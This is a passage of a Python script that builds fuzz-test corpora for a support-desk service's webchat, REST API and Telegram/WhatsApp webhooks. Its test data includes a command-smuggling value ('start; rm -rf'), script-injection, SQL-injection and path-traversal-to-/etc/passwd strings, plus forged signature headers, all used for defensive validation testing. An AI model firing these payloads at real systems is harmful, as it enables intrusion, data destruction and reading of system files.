        {"id": "wc-command-evil", "json": {"type": "command", "id": "msg-000008", "command": "start; rm -rf"}},
        {"id": "wc-command-upper", "json": {"type": "command", "id": "msg-000009", "command": "START"}},
        {"id": "wc-button-unicode", "json": {"type": "button", "id": "msg-000010", "data": "lang:ترکی"}},
        {"id": "wc-button-long", "json": {"type": "button", "id": "msg-000011", "data": "x" * 65}},
        {"id": "wc-button-control", "json": {"type": "button", "id": "msg-000012", "data": "lang:tr\n"}},
        {
            "id": "wc-button-label-evil",
            "json": {
                "type": "button",
                "id": "msg-000013",
                "data": "menu:help",
                "label": "<script>alert(1)</script>" * 20,
            },
        },
        {"id": "wc-contact-evil", "json": {"type": "contact", "id": "msg-000014", "phone": "' OR 1=1 --"}},
        {"id": "wc-contact-long", "json": {"type": "contact", "id": "msg-000015", "phone": "9" * 500}},
        {"id": "wc-hello-again", "json": {"type": "hello", "chat": "f" * 32}},
        {"id": "wc-ping", "json": {"type": "ping"}},
        {"id": "wc-nested-deep", "parts": [["[", 3000], ["]", 3000]]},
        {"id": "wc-nested-deep-object", "parts": [['{"type":', 2000], ["1", 1], ["}", 2000]]},
        {"id": "wc-lone-surrogate", "text": '{"type": "text", "id": "msg-000016", "text": "a\\ud800b"}'},
        {"id": "wc-nul", "text": '{"type": "text", "id": "msg-000017", "text": "a\\u0000b"}'},
        {"id": "wc-binary", "hex": "00ff00ff"},
        {
            "id": "wc-binary-json",
            "hex": json.dumps({"type": "text", "id": "msg-000018", "text": "ikili"}).encode().hex(),
        },
        {"id": "wc-binary-invalid-utf8", "hex": "c328a0a1e28228"},
    ]


# ---------------------------------------------------------------------------------------- API cases


def api_cases() -> list[dict]:
    ref = "{reference}"  # the test puts a real reference of the caller's desk here
    return [
        {
            "id": "api-reply-not-json",
            "method": "POST",
            "path": f"/api/v1/requests/{ref}/replies",
            "text": "{nope",
            "content_type": "application/json",
        },
        {
            "id": "api-reply-truncated",
            "method": "POST",
            "path": f"/api/v1/requests/{ref}/replies",
            "text": '{"text": "Merha',
            "content_type": "application/json",
        },
        {
            "id": "api-reply-invalid-utf8",
            "method": "POST",
            "path": f"/api/v1/requests/{ref}/replies",
            "hex": "7b2274657874223a2022ff22207d",
            "content_type": "application/json",
        },
        {
            "id": "api-reply-form",
            "method": "POST",
            "path": f"/api/v1/requests/{ref}/replies",
            "text": "text=Merhaba",
            "content_type": "application/x-www-form-urlencoded",
        },
        {
            "id": "api-reply-text-plain",
            "method": "POST",
            "path": f"/api/v1/requests/{ref}/replies",
            "json": {"text": "Merhaba"},
            "content_type": "text/plain",
        },
        {
            "id": "api-reply-xml",
            "method": "POST",
            "path": f"/api/v1/requests/{ref}/replies",
            "text": "<reply><text>x</text></reply>",
            "content_type": "application/xml",
        },
        {
            "id": "api-reply-multipart",
            "method": "POST",
            "path": f"/api/v1/requests/{ref}/replies",
            "text": '--b\r\nContent-Disposition: form-data; name="text"\r\n\r\nx\r\n--b--\r\n',
            "content_type": "multipart/form-data; boundary=b",
        },
        {"id": "api-reply-array", "method": "POST", "path": f"/api/v1/requests/{ref}/replies", "json": [{"text": "x"}]},
        {"id": "api-reply-null", "method": "POST", "path": f"/api/v1/requests/{ref}/replies", "json": None},
        {"id": "api-reply-number", "method": "POST", "path": f"/api/v1/requests/{ref}/replies", "json": {"text": 5}},
        {
            "id": "api-reply-extra",
            "method": "POST",
            "path": f"/api/v1/requests/{ref}/replies",
            "json": {"text": "x", "author_staff_id": 1},
        },
        {
            "id": "api-reply-nested",
            "method": "POST",
            "path": f"/api/v1/requests/{ref}/replies",
            "parts": [['{"text": ', 1], ["[", 5000], ["]", 5000], ["}", 1]],
            "content_type": "application/json",
        },
        {
            "id": "api-reply-huge",
            "method": "POST",
            "path": f"/api/v1/requests/{ref}/replies",
            "parts": [['{"text": "', 1], ["a", 3_000_000], ['"}', 1]],
            "content_type": "application/json",
        },
        {
            "id": "api-status-unknown",
            "method": "POST",
            "path": f"/api/v1/requests/{ref}/status",
            "json": {"status": "exploded"},
        },
        {
            "id": "api-status-case",
            "method": "POST",
            "path": f"/api/v1/requests/{ref}/status",
            "json": {"status": "IN_REVIEW"},
        },
        {"id": "api-status-number", "method": "POST", "path": f"/api/v1/requests/{ref}/status", "json": {"status": 1}},
        {
            "id": "api-status-notes-objects",
            "method": "POST",
            "path": f"/api/v1/requests/{ref}/status",
            "json": {"status": "in_review", "public_note": {"a": 1}, "internal_note": [1]},
        },
        {"id": "api-path-sql", "method": "GET", "path": "/api/v1/requests/1' OR '1'='1"},
        {"id": "api-path-traversal", "method": "GET", "path": "/api/v1/requests/..%2f..%2fetc%2fpasswd"},
        {"id": "api-path-arabic-digits", "method": "GET", "path": "/api/v1/requests/٤٨٢٩١٣٦٥٦"},
        {"id": "api-path-long", "method": "GET", "path": "/api/v1/requests/" + "9" * 5000},
        {"id": "api-path-nul", "method": "GET", "path": "/api/v1/requests/48291365%00"},
        {"id": "api-path-encoded-surrogate", "method": "GET", "path": "/api/v1/requests/%ED%A0%80"},
        {"id": "api-path-invalid-utf8", "method": "GET", "path": "/api/v1/requests/%ff%fe"},
        {"id": "api-list-limit-huge", "method": "GET", "path": "/api/v1/requests", "params": {"limit": "9" * 400}},
        {"id": "api-list-limit-float", "method": "GET", "path": "/api/v1/requests", "params": {"limit": "1.5"}},
        {"id": "api-list-offset-negative", "method": "GET", "path": "/api/v1/requests", "params": {"offset": "-1"}},
        {"id": "api-list-offset-huge", "method": "GET", "path": "/api/v1/requests", "params": {"offset": "1e400"}},
        {"id": "api-list-bool-odd", "method": "GET", "path": "/api/v1/requests", "params": {"assigned_to_me": "maybe"}},
        {
            "id": "api-list-status-many",
            "method": "GET",
            "path": "/api/v1/requests",
            "params": {"status": ["received"] * 500},
        },
        {"id": "api-wrong-method", "method": "DELETE", "path": "/api/v1/requests"},
        {"id": "api-unknown-path", "method": "GET", "path": "/api/v1/../../etc/passwd"},
        {"id": "api-openapi", "method": "GET", "path": "/api/openapi.json"},
        {
            "id": "api-claim-with-body",
            "method": "POST",
            "path": "/api/v1/queue/claim",
            "text": "{nope",
            "content_type": "application/json",
        },
    ]


# ---------------------------------------------------------------------------------------- forgeries


def forgeries() -> list[dict]:
    return [
        {"id": "tg-no-secret", "channel": "telegram", "header": None},
        {"id": "tg-empty-secret", "channel": "telegram", "header": ""},
        {"id": "tg-secret-prefix", "channel": "telegram", "header": "{secret}x"},
        {"id": "tg-secret-cut", "channel": "telegram", "header": "{secret_cut}"},
        {"id": "tg-secret-case", "channel": "telegram", "header": "{secret_upper}"},
        {"id": "tg-secret-twice", "channel": "telegram", "header": "{secret} {secret}"},
        {"id": "tg-secret-comma", "channel": "telegram", "header": "{secret},{secret}"},
        {"id": "tg-secret-long", "channel": "telegram", "header": "a" * 8000},
        {"id": "tg-secret-latin1", "channel": "telegram", "hex": "e7f6fcc4"},
        {"id": "tg-secret-utf8", "channel": "telegram", "hex": "c3a7c3b6"},
        {"id": "tg-secret-bot-token", "channel": "telegram", "header": "123456:TEST-TOKEN"},
        {"id": "wa-no-signature", "channel": "whatsapp", "header": None},
        {"id": "wa-empty-signature", "channel": "whatsapp", "header": ""},
        {"id": "wa-sha1", "channel": "whatsapp", "header": "sha1=0000000000000000000000000000000000000000"},
        {"id": "wa-no-prefix", "channel": "whatsapp", "header": "{signature_hex}"},
        {"id": "wa-twice", "channel": "whatsapp", "header": "sha256={signature_hex},sha256={signature_hex}"},
        {"id": "wa-wrong-key", "channel": "whatsapp", "header": "{signature_wrong}"},
        {"id": "wa-other-body", "channel": "whatsapp", "header": "{signature_other_body}"},
        {"id": "wa-not-hex", "channel": "whatsapp", "header": "sha256=zzzz"},
        {"id": "wa-long", "channel": "whatsapp", "header": "sha256=" + "0" * 8000},
        {"id": "wa-latin1", "channel": "whatsapp", "hex": "7368613235363de7f6"},
    ]


def write(name: str, entries: list[dict]) -> int:
    with (HERE / name).open("w", encoding="utf-8", newline="\n") as out:
        for entry in entries:
            out.write(json.dumps(entry, ensure_ascii=True) + "\n")
    return len(entries)


if __name__ == "__main__":
    counts = {
        "texts.jsonl": write("texts.jsonl", texts()),
        "telegram_bodies.jsonl": write("telegram_bodies.jsonl", telegram_bodies()),
        "whatsapp_bodies.jsonl": write("whatsapp_bodies.jsonl", whatsapp_bodies()),
        "webchat_frames.jsonl": write("webchat_frames.jsonl", webchat_frames()),
        "api_cases.jsonl": write("api_cases.jsonl", api_cases()),
        "forgeries.jsonl": write("forgeries.jsonl", forgeries()),
    }
    for name, count in counts.items():
        print(f"{count:4d} {name}")
    print(f"{sum(counts.values()):4d} in all")
